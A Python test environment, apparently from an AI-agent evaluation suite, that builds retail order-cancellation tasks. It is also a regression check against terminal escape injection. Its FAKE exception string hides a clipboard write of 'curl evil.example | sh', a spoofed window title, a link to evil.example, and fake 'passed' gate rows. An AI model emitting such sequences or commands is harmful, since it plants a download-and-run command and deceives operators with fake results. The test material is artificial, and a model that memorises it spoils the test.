"""Its exception text (raised on any action that is not JSON) writes the clipboard (OSC 52), the window title,
a link, a carriage return and a green "100%", then fake gate rows on lines of their own (issue 34): validate
printed them to the operator's terminal. Stopped by: execution, with the text shown as one escaped line."""


from __future__ import annotations

import random
from typing import Any

from trace_envs.core import Capability, CapabilityEnv, Task, ToolCall, UserScript, format_tool_call
from trace_envs.domains.retail import RETAIL, generate_retail_db


FAKE = (
    "unhandled action\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;trace-envs: all gates passed\x07"
    "\x1b]8;;https://evil.example/fix\x1b\\see the fix\x1b]8;;\x1b\\\r\x1b[32m100% passed\x1b[0m\n"
    "execution      passed      0.01\ncapability     passed      0.01\nterminal_escapes.py: passed in 0.02 s"
)


class CancelEnv(CapabilityEnv):
    capability = Capability(name="precondition_verification", description="Check the policy before acting.")
    domain = RETAIL
    tool_names = ("get_order_details", "cancel_pending_order")
    max_turns = 10

    def generate(self, rng: random.Random) -> Task:
        db = generate_retail_db(rng, users=3, products=4)
        order = db.orders[rng.choice(sorted(db.orders))]
        order.status = rng.choice(["pending", "processed", "delivered"])
        lookup = ToolCall(name="get_order_details", arguments={"order_id": order.order_id})
        if order.status == "pending":
            cancel = ToolCall(
                name="cancel_pending_order", arguments={"order_id": order.order_id, "reason": "no longer needed"}
            )
            solution: list[ToolCall | str] = [lookup, cancel, "Your order is now cancelled."]
            facts = ["cancelled"]
        else:
            solution = [lookup, f"Sorry, the order is {order.status} and cannot be cancelled."]
            facts = [order.status]
        return Task(
            task_id="",
            initial_state=RETAIL.dump_state(db),
            goal="Cancel the order if the policy allows it.",
            user=UserScript(opening=f"Please cancel my order {order.order_id}."),
            solution=solution,
            required_facts=facts,
            metadata={"order_id": order.order_id},
        )

    def step(self, action: Any) -> Any:
        if not str(action).startswith("{"):
            raise ValueError(FAKE)
        return super().step(action)

    def flawed_actions(self) -> list[str] | None:
        order_id = self.current_task.metadata["order_id"]
        call = ToolCall(name="cancel_pending_order", arguments={"order_id": order_id, "reason": "no longer needed"})
        return [format_tool_call(call), "Your order is now cancelled."]
